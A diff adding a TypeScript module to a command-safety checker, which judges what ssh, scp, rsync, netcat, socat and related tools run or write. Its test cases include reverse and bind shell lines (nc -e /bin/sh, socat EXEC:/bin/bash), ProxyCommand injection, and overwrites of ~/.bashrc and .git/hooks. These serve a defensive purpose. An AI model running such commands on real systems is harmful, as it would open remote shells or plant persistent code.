@@ -1,0 +1,378 @@
+import { parseOptions } from '../options/parse-options.ts';
+import { type Arg, knownArg, prefixOf, withoutPrefix } from '../walk/arg.ts';
+import { allOf, joinWords, refuseOptions, startsOperands, unclearStart } from './effects.ts';
+import { refused, shellStdin, startOptions, stdinText, writeOptions } from './option-effects.ts';
+import type { Call, Effect, Program } from './program.ts';
+import { splitWords } from './split-words.ts';
+
+const sshShort = '46AaCfGgKkMNnqsTtVvXxYyB:b:c:D:E:e:F:I:i:J:L:l:m:O:o:P:p:Q:R:S:W:w:';
+const copyOptions = { short: '346ABCprqTvRc:D:F:i:J:l:o:P:S:X:s:aNfb:n', long: '' };
+
+/** Programs that reach other machines; the command that runs there is judged like one that runs here. */
+export const remotePrograms: readonly Program[] = [
+  {
+    names: ['ssh', 'slogin', 'autossh', 'hpnssh'],
+    options: { short: sshShort, stop: true },
+    effects: sshEffects,
+    runs: [
+      ['ssh host touch x', 'touch'],
+      ["ssh -p 22 u@host 'ls; touch x'", 'ls', 'touch'],
+      ['ssh host -p 22 touch x', 'touch'],
+      ["ssh -o ProxyCommand='touch x' host ls", 'ls', 'touch'],
+      ["ssh -oProxyCommand='touch x' -N host", 'touch'],
+      ["ssh -o 'proxycommand touch x' -N host", 'touch'],
+      ["ssh -o PermitLocalCommand=yes -o LocalCommand='touch x' -N host", 'touch'],
+      ["ssh -o KnownHostsCommand='touch x' -N host", 'touch'],
+      'ssh -F ./config -N host',
+      'ssh -I ./x.so -N host',
+      'ssh -E /etc/x -N host',
+      'ssh -o PKCS11Provider=./x.so -N host',
+      'ssh -o "$x" -N host',
+      'ssh host',
+      'ssh host < script.sh',
+      ["ssh host <<< 'touch x'", 'touch'],
+      ["ssh host bash -s <<< 'touch x'", 'bash', 'touch'],
+      'ssh host "$cmd"',
+    ],
+    harmless: [
+      'ssh -V',
+      'ssh -N -L 8080:localhost:80 host',
+      ['ssh -o StrictHostKeyChecking=no -i key u@host ls -l', 'ls'],
+      ["ssh host 'ls -l /var/log | head'", 'ls', 'head'],
+      'ssh -T git@github.com',
+      'ssh -G host',
+      'ssh -O exit host',
+    ],
+  },
+  {
+    names: ['sshpass'],
+    options: { short: 'p:f:d:e::P:vhV', stop: true },
+    effects: startsOperands,
+    runs: [
+      ['sshpass -p x touch y', 'touch'],
+      ['sshpass -e ssh host touch x', 'ssh', 'touch'],
+    ],
+    harmless: ['sshpass -V', ['sshpass -f pw ssh host ls', 'ssh', 'ls']],
+  },
+  {
+    names: ['mosh'],
+    options: {
+      short: '46ano:p:',
+      long: 'client= server= predict= port= ssh= bind-server= family= no-init no-ssh-pty experimental-remote-ip= local help version',
+      stop: true,
+    },
+    effects: (call) => [
+      ...refuseOptions({ client: 'chooses the program that runs', server: 'chooses the program that runs' })(
+        call,
+      ),
+      ...startOptions('ssh')(call),
+      ...(call.options.has('help', 'version') ? [] : remoteCommand(call, call.options.operands.slice(1))),
+    ],
+    runs: [
+      ['mosh host touch x', 'touch'],
+      ['mosh host -- touch x', 'touch'],
+      'mosh --client=./x host ls',
+      'mosh host',
+    ],
+    harmless: ['mosh --version', ['mosh host ls', 'ls']],
+  },
+  {
+    names: ['scp', 'sftp'],
+    options: copyOptions,
+    effects: allOf(copySettings, sftpInput, lastWritten),
+    runs: [
+      ['scp -S touch a host:b', 'touch'],
+      ["scp -o ProxyCommand='touch x' a host:b", 'touch'],
+      "scp -oProxyCommand='./x' a host:b",
+      'scp -F ./config a host:b',
+      'sftp -S ./x host',
+      ["sftp host <<< '!touch x'", 'touch'],
+      ["echo '!touch x' | sftp -b - host", 'echo', 'touch'],
+      'sftp -D ./server',
+      'scp host:evil ~/.bashrc',
+    ],
+    harmless: [
+      'scp -P 22 -r dir u@host:/srv',
+      'scp host:a .',
+      'sftp -b batch.txt host',
+      "sftp host <<< 'get a'",
+      'scp -o StrictHostKeyChecking=no a host:',
+    ],
+  },
+  {
+    names: ['rsync'],
+    options: {
+      short: 'vqcarRbudlLkKHpEXogDtNOJUASnWxmizhPC4680yef:e:B:T:M:@:s',
+      long: `verbose info= debug= stderr= quiet no-motd checksum checksum-choice= archive recursive relative no-implied-dirs backup
+        backup-dir= suffix= update inplace append append-verify dirs old-dirs mkpath links copy-links copy-unsafe-links safe-links munge-links
+        copy-dirlinks keep-dirlinks hard-links perms executability chmod= acls xattrs owner group devices copy-devices write-devices specials
+        times atimes open-noatime crtimes omit-dir-times omit-link-times super fake-super sparse preallocate dry-run whole-file
+        one-file-system block-size= rsh= rsync-path= existing ignore-existing remove-source-files del delete delete-before delete-during
+        delete-delay delete-after delete-excluded ignore-missing-args delete-missing-args ignore-errors force max-delete= max-size= min-size=
+        max-alloc= partial partial-dir= delay-updates prune-empty-dirs numeric-ids usermap= groupmap= chown= timeout= contimeout=
+        ignore-times size-only modify-window= temp-dir= fuzzy compare-dest= copy-dest= link-dest= compress compress-choice= zc= zl=
+        compress-level= skip-compress= cvs-exclude filter= exclude= exclude-from= include= include-from= files-from= from0 old-args
+        secluded-args protect-args trust-sender copy-as= address= port= sockopts= blocking-io outbuf= stats 8-bit-output human-readable progress itemize-changes
+        remote-option= out-format= log-file= log-file-format= password-file= early-input= list-only bwlimit= stop-after= stop-at= fsync write-batch=
+        only-write-batch= read-batch= protocol= iconv= checksum-seed= ipv4 ipv6 version help daemon config= detach no-detach server sender`.replace(
+        /\s+/g,
+        ' ',
+      ),
+    },
+    effects: allOf(
+      startOptions('e', 'rsh'),
+      ({ options }) => options.values('rsync-path').map((text) => ({ does: 'shell', text }) as const),
+      refuseOptions({
+        daemon: 'starts a server that may run programs',
+        config: 'chooses settings that run programs',
+        server: 'starts a server',
+        M: 'passes options on that may run programs',
+        'remote-option': 'passes options on that may run programs',
+      }),
+      writeOptions('log-file', 'write-batch', 'only-write-batch'),
+      lastWritten,
+    ),
+    runs: [
+      ["rsync -e 'touch x' a host:b", 'touch'],
+      ['rsync -ave touch a host:b', 'touch'],
+      ['rsync --rsh=\'sh -c "touch x"\' a host:b', 'sh', 'touch'],
+      ["rsync -av --rsync-path='touch x' a host:b", 'touch'],
+      ["rsync -e 'ssh -p 22' a host:b", 'ssh'],
+      ["rsync -e 'ssh -o ProxyCommand=touch' a host:b", 'ssh', 'touch'],
+      'rsync -e "$x" a host:b',
+      'rsync evil ~/.bashrc',
+      'rsync --daemon --config=x',
+      'rsync -a x .git/hooks/',
+    ],
+    harmless: [
+      'rsync -avz --delete src/ host:/srv/app/',
+      'rsync -a src/ dst/',
+      "rsync -av --exclude='*.o' --exclude=.git a b",
+      ["rsync -avz -e 'ssh -i key' a host:b", 'ssh'],
+      'rsync -n -a --progress a b',
+    ],
+  },
+  {
+    names: ['ssh-keygen', 'ssh-add', 'ssh-copy-id'],
+    options: {
+      short: 'a:b:C:D:E:F:f:g:I:i:K:k:L:l:M:m:N:n:O:o:P:p:q:Q:R:r:s:S:t:T:U:u:V:w:W:Y:y:Z:z:',
+      long: '',
+    },
+    effects: ({ args, name, self }) => {
+      const loads =
+        name === 'ssh-keygen' ? /^-[a-zA-Z]*[Dw]/ : name === 'ssh-add' ? /^-[a-zA-Z]*[seS]/ : /^-(?:o|F)/;
+      const at = args.find((arg) => loads.test(prefixOf(arg)) && !/^-[tfbCNP]./.test(prefixOf(arg)));
+      return at === undefined
+        ? []
+        : [
+            {
+              does: 'refuse',
+              at,
+              reason: `${name} ${at.text ?? self.text} loads code or settings from a file`,
+            },
+          ];
+    },
+    runs: [
+      'ssh-keygen -D ./x.so',
+      'ssh-add -s ./x.so',
+      'ssh-keygen -t ed25519-sk -w ./x.so',
+      'ssh-copy-id -o ProxyCommand=touch host',
+    ],
+    harmless: [
+      "ssh-keygen -t ed25519 -N '' -f key",
+      'ssh-add -l',
+      'ssh-add key',
+      'ssh-keygen -lf key.pub',
+      'ssh-copy-id -i key host',
+      'ssh-keygen -R host',
+    ],
+  },
+  {
+    names: ['ssh-agent'],
+    options: { short: 'cskDda:E:O:P:t:', stop: true },
+    effects: startsOperands,
+    runs: [
+      ['ssh-agent touch x', 'touch'],
+      ['ssh-agent -a sock touch x', 'touch'],
+      "ssh-agent bash -c 'touch x'",
+    ],
+    harmless: ['ssh-agent', 'ssh-agent -s', 'ssh-agent -k', ['ssh-agent ls', 'ls']],
+  },
+  {
+    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
+    options: {
+      short: '46bCDdFhklNnrStUuvZze:c:g:G:I:i:m:M:O:o:P:p:q:s:T:V:w:W:X:x:',
+      long: 'exec= sh-exec= lua-exec= listen keep-open output= hex-dump= proxy= proxy-type= source= source-port= wait= idle-timeout= ssl ssl-cert= ssl-key= verbose udp allow= deny= send-only recv-only version help',
+    },
+    effects: allOf(
+      ({ options, name }) =>
+        options
+          .values('e', 'exec')
+          .map(
+            (value): Effect =>
+              name === 'nc.openbsd'
+                ? { does: 'write', path: value }
+                : { does: 'start', argv: splitWords(value), stdin: 'none' },
+          ),
+      ({ options, name }) =>
+        options
+          .values('c', 'sh-exec')
+          .map((text): Effect => ({ does: 'shell', text }) as const)
+          .filter(() => name !== 'nc.openbsd'),
+      refuseOptions({ 'lua-exec': 'runs a Lua program' }),
+      writeOptions('o', 'output', 'hex-dump'),
+      shellsOnConnection,
+    ),
+    runs: [
+      ['nc -l -p 4444 -e touch', 'touch'],
+      'nc -e /bin/sh host 4444',
+      'nc -lvp 4444 -e /bin/bash',
+      ["nc -c 'touch x' host 1", 'touch'],
+      ["ncat --sh-exec 'touch x' host 1", 'touch'],
+      ['ncat -l 1 --exec touch', 'touch'],
+      'ncat --lua-exec x.lua host 1',
+      "ncat --exec '/bin/bash -i' host 1",
+    ],
+    harmless: ['nc -zv host 80', 'nc -l 4444', 'nc -w 2 host 80', 'ncat --listen 80'],
+  },
+  {
+    names: ['socat'],
+    effects: socatEffects,
+    runs: [
+      ['socat TCP-LISTEN:1,fork EXEC:touch', 'touch'],
+      ["socat - EXEC:'touch x',pty", 'touch'],
+      ["socat TCP:host:1 SYSTEM:'touch x'", 'touch'],
+      "socat TCP-LISTEN:1 EXEC:'/bin/bash -li'",
+      ['socat - exec:touch', 'touch'],
+      ["socat -u FILE:x 'SHELL:touch x'", 'touch'],
+      'socat - "$x"',
+      'socat - "EXEC:$x"',
+      'socat -u TCP:host:1 CREATE:/etc/x',
+    ],
+    harmless: [
+      'socat TCP-LISTEN:80,fork TCP:host:8080',
+      'socat -d -d - UNIX-CONNECT:/tmp/s',
+      'socat -V',
+      'socat "TCP-LISTEN:$port" -',
+    ],
+  },
+];
+
+function sshEffects(call: Call): Effect[] {
+  const before = call.options;
+  const after = parseOptions(before.operands.slice(1), { short: sshShort, stop: true });
+  const values = (letter: string): Arg[] => [...before.values(letter), ...after.values(letter)];
+  const has = (...letters: string[]): boolean => before.has(...letters) || after.has(...letters);
+  const settings: Effect[] = [
+    ...values('o').flatMap((option) => settingEffects(call, option)),
+    ...values('F')
+      .filter((file) => !/^(?:none|\/dev\/null|~?\/.*\.ssh\/config)$/.test(file.text ?? ''))
+      .map((file) => refused(call, '-F takes settings that may run programs from a file', file)),
+    ...values('I').map((file) => refused(call, '-I loads code from a file', file)),
+    ...values('E').map((path): Effect => ({ does: 'write', path })),
+  ];
+  const [host] = before.operands;
+  if (host === undefined || has('V', 'G', 'Q', 'O')) return [...unclearStart(call), ...settings];
+  if (has('N', 'W', 's')) return settings;
+  const gitHost = host.text?.startsWith('git@') && after.operands.length === 0;
+  return [...settings, ...unclearStart(call), ...(gitHost ? [] : remoteCommand(call, after.operands))];
+}
+
+/** The words after the host are joined and given to a shell there; without any, it reads stdin. */
+function remoteCommand(call: Call, words: readonly Arg[]): Effect[] {
+  const [first] = words;
+  const argv = first?.text === '--' ? words.slice(1) : words;
+  if (argv.length === 0) return shellStdin(call);
+  const simple = argv.every((word) => word.text !== undefined && /^[\w./:=@%+-]+$/.test(word.text));
+  return simple ? [{ does: 'start', argv }] : [{ does: 'shell', text: joinWords(argv, call.self) }];
+}
+
+/** One `-o` setting: `Name=value` or `Name value`. */
+function settingEffects(call: Call, option: Arg): Effect[] {
+  const [, name, between = ''] = /^\s*([A-Za-z0-9]+)(\s*=\s*|\s+)?/.exec(prefixOf(option)) ?? [];
+  if (name === undefined) return [refused(call, '-o might choose what runs', option)];
+  if (/^(?:proxycommand|localcommand|knownhostscommand)$/i.test(name)) {
+    const text = withoutPrefix(option, prefixOf(option).indexOf(name) + name.length + between.length);
+    return text.text === 'none' ? [] : [{ does: 'shell', text }];
+  }
+  return /^(?:pkcs11provider|securitykeyprovider|xauthlocation|include|match|smartcarddevice)$/i.test(name)
+    ? [refused(call, `-o ${name} chooses code that runs`, option)]
+    : [];
+}
+
+function copySettings(call: Call): Effect[] {
+  const { options, name } = call;
+  return [
+    ...options.values('o').flatMap((option) => settingEffects(call, option)),
+    ...options.values('S').map((program): Effect => ({ does: 'start', argv: [program], stdin: 'none' })),
+    ...options
+      .values('F')
+      .map((file) => refused(call, '-F takes settings that may run programs from a file', file)),
+    ...options
+      .values('D')
+      .map((server) => refused(call, '-D starts a server program', server))
+      .filter(() => name === 'sftp'),
+  ];
+}
+
+/** In sftp's input, lines that begin with `!` are for a local shell. */
+function sftpInput(call: Call): Effect[] {
+  if (call.name !== 'sftp') return [];
+  return stdinText(call)
+    .split('\n')
+    .flatMap((line) => /^\s*[-@]*!(.*)$/.exec(line)?.[1] ?? [])
+    .map((text): Effect => ({ does: 'shell', text: knownArg(text, call.self) }));
+}
+
+/** The last operand is written, when it is on this machine. */
+function lastWritten({ options, name }: Call): Effect[] {
+  const { operands } = options;
+  const target = operands.at(-1);
+  if (name === 'sftp' || target === undefined || operands.length < 2) return [];
+  if (/^[^/]+:/.test(prefixOf(target))) return [];
+  const below = operands.slice(0, -1).flatMap((source) => source.text?.split(/[/:]/).at(-1) || []);
+  return [
+    { does: 'write', path: target },
+    ...below.map(
+      (file): Effect => ({
+        does: 'write',
+        path: {
+          ...target,
+          pieces: [...target.pieces, `/${file}`],
+          text: target.text && `${target.text}/${file}`,
+        },
+      }),
+    ),
+  ];
+}
+
+/** What arrives from the network in a shell is refused where the shell is judged; here nothing is left to do. */
+function shellsOnConnection(call: Call): Effect[] {
+  return call.options
+    .values('e', 'exec', 'c', 'sh-exec')
+    .filter((value) => /(?:^|\/)(?:ba|da|z|k|c|tc|fi)?sh(?:\s|$)/.test(value.text ?? ''))
+    .map((value) => refused(call, 'gives whoever connects a shell', value));
+}
+
+/** socat's addresses: `EXEC:`, `SYSTEM:` and `SHELL:` run programs, `CREATE:` and `OPEN:` write files. */
+function socatEffects(call: Call): Effect[] {
+  return call.args
+    .filter((arg) => !/^-[^-]/.test(prefixOf(arg)) || prefixOf(arg).includes(':'))
+    .flatMap((arg): Effect[] => {
+      const start = prefixOf(arg);
+      if (start === '' && arg.text === undefined)
+        return [{ does: 'unknown', at: arg, reason: `an address of ${call.name} cannot be known` }];
+      return start.split('!!').flatMap((address) => addressEffects(call, arg, address));
+    });
+}
+
+function addressEffects(call: Call, arg: Arg, address: string): Effect[] {
+  const [, kind = '', rest = ''] = /^\s*([A-Za-z0-9_-]+):(.*)$/s.exec(address) ?? [];
+  const value = knownArg(rest.replace(/(?:,[\w-]+(?:=[^,]*)?)*$/, ''), arg);
+  if (/^(?:exec|system|shell)$/i.test(kind) && arg.text === undefined)
+    return [{ does: 'unknown', at: arg, reason: `what ${call.name} would run cannot be known` }];
+  if (/^exec$/i.test(kind))
+    return [{ does: 'start', argv: splitWords(value), stdin: { text: '', more: true } }];
+  if (/^(?:system|shell)$/i.test(kind)) return [{ does: 'shell', text: value }];
+  return /^(?:create|open|file|gopen|creat)$/i.test(kind) ? [{ does: 'write', path: value }] : [];
+}
